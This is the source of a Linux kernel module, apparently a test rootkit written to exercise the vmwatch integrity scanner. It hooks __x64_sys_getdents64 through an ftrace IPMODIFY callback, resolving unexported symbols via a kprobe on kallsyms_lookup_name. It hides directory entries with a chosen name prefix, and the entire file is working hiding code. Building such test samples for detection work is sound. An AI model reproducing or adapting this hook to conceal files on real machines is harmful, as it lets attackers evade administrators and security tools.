// SPDX-License-Identifier: GPL-2.0
/*
 * rk_ftrace: TEST ROOTKIT for vmwatch's integrity scanner. Never load it on a
 * machine you care about.
 *
 * Hides directory entries whose name starts with `prefix` (default "rkftr_")
 * from getdents64, with the "ftrace hook" technique: an ftrace_ops with
 * SAVE_REGS | RECURSION | IPMODIFY filtered on __x64_sys_getdents64; its
 * callback rewrites regs->ip to our wrapper, which calls the real
 * __x64_sys_getdents64 (the callback leaves calls coming from this module
 * alone) and filters its result.
 *
 * Nothing in the kernel image is written by hand: ftrace turns the 5-byte nop
 * at the function's __fentry__ site into a call to an ftrace trampoline (a
 * page allocated by ftrace for this ops), and the ops sits on ftrace's lists.
 * rmmod unregisters it.
 *
 * One line on load, for tests (addresses raw):
 *   rk_ftrace: hooked getdents64 via ftrace prefix=<p> \
 *     __x64_sys_getdents64@0x<function>:fentry@0x<patched call site> \
 *     ops=0x<struct ftrace_ops> callback=0x<ftrace callback> hook=0x<wrapper>
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/version.h>
#include <linux/kprobes.h>
#include <linux/ftrace.h>
#include <linux/uaccess.h>
#include <linux/slab.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/dirent.h>
#include <linux/ptrace.h>
#include <linux/delay.h>
#include <linux/rcupdate.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmwatch test rootkit: ftrace hook on __x64_sys_getdents64");

static char *prefix = "rkftr_";
module_param(prefix, charp, 0444);
MODULE_PARM_DESC(prefix, "hide directory entries starting with this");

#include "rk_common.h"

typedef asmlinkage long (*syscall_fn)(const struct pt_regs *);
static syscall_fn orig_getdents64;
static unsigned long target;	/* __x64_sys_getdents64 */
static atomic_t inflight = ATOMIC_INIT(0);

static long filter_dirents(struct linux_dirent64 __user *ud, long len)
{
	size_t plen = strlen(prefix);
	long off = 0, out = len;
	char *kbuf;

	if (!plen)
		return len;
	kbuf = kvmalloc(len, GFP_KERNEL);
	if (!kbuf)
		return len;
	if (copy_from_user(kbuf, ud, len)) {
		kvfree(kbuf);
		return len;
	}
	while (off < out) {
		struct linux_dirent64 *d = (struct linux_dirent64 *)(kbuf + off);
		unsigned short rl = d->d_reclen;

		if (rl == 0 || off + rl > out)
			break;
		if (strncmp(d->d_name, prefix, plen) == 0) {
			memmove(kbuf + off, kbuf + off + rl, out - off - rl);
			out -= rl;
		} else {
			off += rl;
		}
	}
	if (out != len && copy_to_user(ud, kbuf, out))
		out = -EFAULT;
	kvfree(kbuf);
	return out;
}

static asmlinkage long hook_getdents64(const struct pt_regs *regs)
{
	long ret;

	atomic_inc(&inflight);
	do {
		/* re-enters ftrace; the callback sees our return address and lets it run */
		ret = orig_getdents64(regs);
		if (ret <= 0)
			break;
		ret = filter_dirents((struct linux_dirent64 __user *)regs->si, ret);
	} while (ret == 0);
	atomic_dec(&inflight);
	return ret;
}

static void notrace rk_ftrace_cb(unsigned long ip, unsigned long parent_ip,
				 struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (!regs)
		return;
	/* our own call of the original: let it through */
	if (within_module(parent_ip, THIS_MODULE))
		return;
	regs->ip = (unsigned long)hook_getdents64;
}

static struct ftrace_ops rk_ops = {
	.func = rk_ftrace_cb,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION |
		 FTRACE_OPS_FL_IPMODIFY,
};

static int __init rk_ftrace_init(void)
{
	unsigned long (*ftrace_loc)(unsigned long ip);
	unsigned long site = 0;
	int err;

	err = resolve_kln();
	if (err) {
		pr_err("kprobe on kallsyms_lookup_name failed: %d\n", err);
		return err;
	}
	target = kln("__x64_sys_getdents64");
	if (!target) {
		pr_err("__x64_sys_getdents64 not found\n");
		return -ENOENT;
	}
	orig_getdents64 = (syscall_fn)target;
	/* the __fentry__ call site (after endbr64 when IBT is built in);
	 * ftrace_location() is not exported */
	ftrace_loc = (void *)kln("ftrace_location");
	if (ftrace_loc)
		site = ftrace_loc(target);

	err = ftrace_set_filter_ip(&rk_ops, target, 0, 0);
	if (err) {
		pr_err("ftrace_set_filter_ip: %d\n", err);
		return err;
	}
	err = register_ftrace_function(&rk_ops);
	if (err) {
		pr_err("register_ftrace_function: %d\n", err);
		ftrace_set_filter_ip(&rk_ops, target, 1, 0);
		return err;
	}
	pr_info("hooked getdents64 via ftrace prefix=%s __x64_sys_getdents64@%px:fentry@%px ops=%px callback=%px hook=%px\n",
		prefix, (void *)target, (void *)site, &rk_ops, rk_ftrace_cb,
		hook_getdents64);
	return 0;
}

static void __exit rk_ftrace_exit(void)
{
	unregister_ftrace_function(&rk_ops);
	ftrace_set_filter_ip(&rk_ops, target, 1, 0);
	synchronize_rcu_tasks();
	while (atomic_read(&inflight))
		msleep(10);
	synchronize_rcu_tasks();
	pr_info("unhooked getdents64\n");
}

module_init(rk_ftrace_init);
module_exit(rk_ftrace_exit);
